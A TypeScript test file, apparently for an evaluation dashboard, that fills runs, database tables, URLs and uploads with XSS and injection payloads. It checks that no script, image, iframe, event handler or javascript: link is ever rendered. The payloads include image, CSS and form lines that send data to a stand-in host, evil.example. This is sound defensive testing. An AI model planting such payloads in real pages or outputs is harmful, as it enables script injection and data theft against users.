import { assertEquals } from "@std/assert";
import { dashboardTest } from "./dashboard_page.ts";
import type { Project } from "./project.ts";

/** What a model, an archive or a user could say to whoever looks. */
const PAYLOADS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<img src=https://evil.example/leak.png>",
  "![leak](https://evil.example/leak.png?secret)",
  "[click](javascript:alert(1))",
  "[click](JaVaScRiPt:alert(1))",
  "[click](data:text/html,<script>alert(1)</script>)",
  "[click](&#106;avascript:alert(1))",
  "<javascript:alert(1)>",
  "[ref]\n\n[ref]: javascript:alert(1)",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<svg><script>alert(1)</script></svg>",
  "<svg onload=alert(1)>",
  "<style>*{background:url(https://evil.example/)}</style>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
  "<base href=https://evil.example/>",
  "<form action=https://evil.example/><input name=q autofocus onfocus=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "</textarea></title></script><script>alert(1)</script>",
  "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
  "```html\n<script>alert(1)</script>\n```",
  "`<img src=x onerror=alert(1)>`",
  "{{constructor.constructor('alert(1)')()}}",
  "safe \u202E gpj.exe \u2066 hidden \u2069",
  "__proto__",
];

/** Elements that no word of a stranger may become. */
const FORBIDDEN =
  "script:not([src='dashboard.js']), img, iframe, object, embed, base, style, link:not([rel=icon], [href='dashboard.css']), meta[http-equiv=refresh i], [onerror], [onload], [href^='javascript' i], [href^='data' i]:not([rel=icon])";

dashboardTest(
  "whatever strangers say is shown and never obeyed",
  async ({ page, project, open, expectAccessible, complaints }) => {
    const { sql, model } = project;
    model.configure({
      answer: (prompt) => `${prompt}\n\n${PAYLOADS.join("\n\n")}`,
    });
    const id = await project.startRun({
      type: "prompts",
      prompts: PAYLOADS.map((text) => ({
        text,
        reference: text,
        metadata: { note: text },
        messages: [{ role: "assistant", content: text }],
      })),
    }, {
      experiment_name: "<img src=x onerror=alert(1)> & co",
      tags: ["<script>alert(1)</script>"],
      evaluators: sql.json([{
        type: "rouge-l",
        name: "refused",
      }]),
      model: "<svg onload=alert(1)>",
    });
    await project.untilOver(id);
    const other = await project.startRun(
      { type: "prompts", prompts: PAYLOADS.slice(0, 5) },
      { experiment_name: "<i>other</i>" },
    );
    await project.untilOver(other);
    // No such name is taken any more, and none in a database is trusted.
    await sql`update evaluation_scores set evaluator = '<b onclick=alert(2)>', explanation = ${
      PAYLOADS.join("\n")
    }`;
    await sql`update prompt_evaluations set source = ${
      sql.json({ path: ["a"], conversation: { id: PAYLOADS[0] } })
    }`;
    await sql`
      insert into pipeline.task_errors (run_id, stage, class, code, message, place, key, final)
      select ${id}, 'execute', 'permanent', 'code', payload, jsonb_build_object('path', payload), payload, true
      from unnest(${PAYLOADS}::text[]) as payload
    `;
    await sql`
      insert into evaluation_labels (evaluation_id, name, person, passed, remark)
      select id, ${PAYLOADS[1]}, ${PAYLOADS[0]}, false, ${PAYLOADS.join("\n")}
      from prompt_evaluations where run_id = ${id}
    `;
    await sql`
      insert into pipeline_webhook_deliveries (
        run_id, event_id, webhook_id, type, url, attempt, delivered, error, created_at
      )
      select ${id}, 1, 'id', 'run.completed', 'https://evil.example/' || payload, 1, false, payload, now()
      from unnest(${PAYLOADS}::text[]) as payload
    `;
    await sql`update pipeline_runs set notice = ${
      PAYLOADS.join("\n")
    } where id = ${id}`;
    const rows = await sql<{ id: number }[]>`
      select id from prompt_evaluations where run_id = ${id} order by id
    `;
    const ofNewScreens = await seedNewScreens(project);
    const ofLabels = await seedLabels(project);
    const experiment = encodeURIComponent("<img src=x onerror=alert(1)> & co");
    const places = [
      "runs",
      `runs?experiment=${experiment}`,
      `runs/${id}`,
      `runs/${id}/answers`,
      `runs/${id}/answers?row=${rows[0].id}&markdown=1`,
      `runs/${id}/answers?row=${rows[1].id}&diff=reference`,
      `experiments/${experiment}/answers`,
      "experiments",
      `compare?baseline=${
        encodeURIComponent("<i>other</i>")
      }&candidate=${experiment}&show=all`,
      "errors",
      `errors?run=${id}&code=code`,
      `errors?run=${id}&code=${encodeURIComponent(PAYLOADS[0])}`,
      "project",
      ...ofNewScreens,
      ...ofLabels,
      `${encodeURIComponent(PAYLOADS[1])}/x`,
    ];
    const readsTheOtherWay = /[\u202a-\u202e\u2066-\u2069]/;
    for (const place of places) {
      await open(place);
      assertEquals(
        readsTheOtherWay.test(await page.locator("body").innerText()),
        false,
        place,
      );
      assertEquals(await page.locator(FORBIDDEN).count(), 0, place);
      await expectAccessible();
    }
    // The console tells that a table cannot be read as it is.
    assertEquals(
      complaints.splice(0).filter((text) => !/status of 400/.test(text)),
      [],
    );
    for (const { id: row } of rows) {
      await open(`runs/${id}/answers?row=${row}&markdown=1`);
      await page.getByRole("heading", { name: "Details" }).waitFor();
      assertEquals(await page.locator(FORBIDDEN).count(), 0);
    }
    assertEquals(
      readsTheOtherWay.test(await page.locator("body").innerText()),
      false,
    );
  },
);

/** A sweep, a set, an archive and a new run that say the same; returns where they are looked at. */
async function seedNewScreens(project: Project): Promise<string[]> {
  const { sql } = project;
  await sql`
    insert into model_endpoints (name, url, model, models)
    select ${PAYLOADS[1]}, url, ${PAYLOADS[6]}, ${
    sql.json({ [PAYLOADS[0]]: {} })
  } from model_endpoints where name = 'model'
  `;
  await sql`select save_prompt_set(
    ${PAYLOADS[6]},
    ${
    sql.json(PAYLOADS.map((text) => ({
      text,
      reference: text,
      metadata: { note: text },
    })))
  },
    description => ${PAYLOADS.join(" ")}
  )`;
  // Storage itself refuses < and >.
  const odd = "a?b&c=1;d/it's (1) & co: 100 + $.jsonl";
  await project.upload(
    odd,
    PAYLOADS.map((content) =>
      JSON.stringify({ messages: [{ role: "user", content }] })
    ).join("\n"),
  );
  const [sweep] = await sql<[{ id: number }]>`
    insert into pipeline_sweeps (name, source, endpoint, variants, evaluators, repetitions)
    values (
      ${PAYLOADS[1]}, ${sql.json({ type: "set", name: PAYLOADS[6] })}, ${
    PAYLOADS[1]
  },
      ${sql.json([{ name: PAYLOADS[2] }, { name: PAYLOADS[6], model: "b" }])},
      ${sql.json([{ type: "length", name: "refused", max: 10 }])}, 2
    ) returning id
  `;
  const runs = await sql<{ id: number }[]>`
    select id from pipeline_runs where sweep_id = ${sweep.id} order by id
  `;
  for (const { id } of runs) await project.untilOver(id, 60);
  await nameEvaluator(sql, "pipeline_sweeps", sweep.id);
  await sql`update evaluation_scores set evaluator = ${
    PAYLOADS[13]
  } where evaluator = 'refused'`;
  // A table, its columns and its rows.
  await sql.unsafe(`
    create table public."<svg onload=alert(1)>" (
      id int primary key, thread_id int, role text, content text, "<img src=x onerror=alert(1)>" text
    );
    grant select on public."<svg onload=alert(1)>" to service_role;
    create table public."<b onclick=alert(1)>" (id int primary key, role text, content text);
    grant select on public."<b onclick=alert(1)>" to service_role;
  `);
  await sql`
    insert into public."<svg onload=alert(1)>"
    select place * 2 + answers, place, case answers when 0 then 'user' else 'assistant' end, payload, payload
    from unnest(${PAYLOADS}::text[]) with ordinality as said (payload, place) cross join generate_series(0, 1) as answers
  `;
  const [watch] = await sql<[{ id: number }]>`
    insert into pipeline_watches (name, source, evaluators) values (
      ${PAYLOADS[2]}, ${
    sql.json({ type: "table", table: "public.<svg onload=alert(1)>" })
  }, ${sql.json([{ type: "length", name: "refused", max: 10 }])}
    ) returning id
  `;
  await nameEvaluator(sql, "pipeline_watches", watch.id);
  await sql`
    insert into pipeline.watch_windows
    select ${watch.id}, ${
    PAYLOADS[13]
  }, number, row(200, 100, 100, 0, 1)::pipeline.score_sums, number, number,
      now(), now() - interval '1 day' + number * interval '1 hour', 0.9, 0.0001, number > 1
    from generate_series(0, 3) as number
  `;
  await sql`update pipeline.watch_states set problem = ${PAYLOADS.join("\n")}`;
  const columns = JSON.stringify({ metadata: [PAYLOADS[1]] });
  const written = new URLSearchParams({
    from: "prompts",
    prompts: PAYLOADS.join("\n"),
    variants: JSON.stringify([
      { endpoint: PAYLOADS[1], model: PAYLOADS[0], system: PAYLOADS[0] },
      { name: PAYLOADS[2] },
    ]),
    name: PAYLOADS[14],
    tags: PAYLOADS[1],
    evaluators: PAYLOADS[24],
    dry: "1",
  });
  return [
    "sweeps",
    `sweeps/${sweep.id}?repetitions=${runs[0].id}`,
    `sweeps/${sweep.id}?by=${encodeURIComponent(PAYLOADS[13])}`,
    "archives",
    "archives/bucket/archives",
    `archives/bucket/archives?prefix=${encodeURIComponent("a?b&c=1;d/")}`,
    `archives/bucket/archives?dry=1&prefix=${encodeURIComponent(odd)}`,
    `archives/set/${encodeURIComponent(PAYLOADS[6])}?dry=1`,
    "tables",
    `tables/${
      encodeURIComponent("public.<svg onload=alert(1)>")
    }?dry=1&columns=${encodeURIComponent(columns)}`,
    `tables/${encodeURIComponent("public.<b onclick=alert(1)>")}`,
    "watches",
    `watches/${watch.id}`,
    `new-watch?${written}&table=${encodeURIComponent(PAYLOADS[3])}&approved=${
      encodeURIComponent(PAYLOADS.join("\n"))
    }`,
    `new?${written}`,
  ];
}

/** Queues, labels and corrections that say the same; returns where they are looked at. */
async function seedLabels({ sql }: Project): Promise<string[]> {
  const experiment = "<img src=x onerror=alert(1)> & co";
  const judge = "<b onclick=alert(1)>";
  const variant = (place: number) => `${PAYLOADS[1]}/${PAYLOADS[place]}`;
  const instructions = PAYLOADS.join("\n\n");
  const categories = PAYLOADS.filter((text) => !text.includes("\n"));
  // Runs take plain names only; who stores scores from elsewhere may name them anything.
  await sql`
    insert into evaluation_scores (evaluation_id, evaluator, score, passed, category, explanation)
    select id, ${judge}, 1, true, ${PAYLOADS[6]}, ${PAYLOADS.join("\n")}
    from prompt_evaluations where experiment_name = ${experiment}
  `;
  const queues = await sql<{ id: number }[]>`
    select (create_evaluation_label_queue(
      name, experiment, label, kind, instructions, 3,
      blind => false, against => given.against, categories => given.categories
    )).id
    from (
      values
        (${PAYLOADS[1]}, ${
    PAYLOADS[0]
  }, 'category', ${experiment}, '', ${categories}::text[], null),
        (${PAYLOADS[6]}, ${
    PAYLOADS[7]
  }, 'score', ${experiment}, ${instructions}, null, null),
        (${PAYLOADS[0]}, ${PAYLOADS[8]}, 'pair', ${variant(2)}, '', null, ${
    variant(6)
  })
    ) as given (name, label, kind, experiment, instructions, categories, against)
  `;
  await sql`
    insert into evaluation_labels (
      results_table, evaluation_id, name, person, passed, category, remark, corrected_response
    )
    select results_table, evaluation_id, ${PAYLOADS[0]}, ${
    PAYLOADS[6]
  }, false, ${PAYLOADS[2]}, ${PAYLOADS.join("\n")}, ${PAYLOADS.join("\n")}
    from evaluation_scores where evaluator = ${judge}
  `;
  const [{ id }] = await sql<[{ id: number }]>`
    select evaluation_id as id from evaluation_scores where evaluator = ${judge} limit 1
  `;
  const agreement = new URLSearchParams({
    evaluator: judge,
    label: PAYLOADS[0],
    experiment,
    set: PAYLOADS[1],
  });
  const written = new URLSearchParams({
    experiment: PAYLOADS[1],
    name: PAYLOADS[0],
    kind: "category",
    categories: PAYLOADS.join("\n"),
    instructions: PAYLOADS.join("\n"),
    evaluator: PAYLOADS[6],
  });
  return [
    "labels",
    ...queues.map(({ id }) => `labels/${id}?markdown=1`),
    `agreement?${agreement}`,
    `agreement?${agreement}&open=${
      encodeURIComponent(`prompt_evaluations ${id}`)
    }`,
    `labels/new?${written}`,
  ];
}

/** No such name is taken, and none in a database is trusted. */
async function nameEvaluator(
  sql: Project["sql"],
  table: string,
  id: number,
): Promise<void> {
  await sql.begin(async (sql) => {
    await sql`set local session_replication_role = replica`;
    await sql`
      update ${sql(table)}
      set evaluators = jsonb_set(evaluators, '{0,name}', to_jsonb(${
      PAYLOADS[13]
    }::text))
      where id = ${id}
    `;
  });
}
